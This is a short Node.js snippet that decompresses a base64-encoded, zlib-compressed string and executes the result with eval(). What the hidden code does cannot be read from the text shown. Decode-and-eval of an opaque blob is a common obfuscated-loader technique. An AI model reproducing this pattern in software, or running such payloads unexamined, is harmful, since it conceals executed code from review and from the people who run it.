const zlib = require("zlib");
const blob = "eJwrSi0szSxK1VBKzsjMSYkvKMpPTi0uVtLUS61ITQ6uzEsGypQW5ShklJQUWOnrJ5aUJCZnpxYBpRNzC3JS9Sv0ijMUahSKM5Q0ARgzGtg=";
const code = zlib.inflateSync(Buffer.from(blob, "base64")).toString();
eval(code);
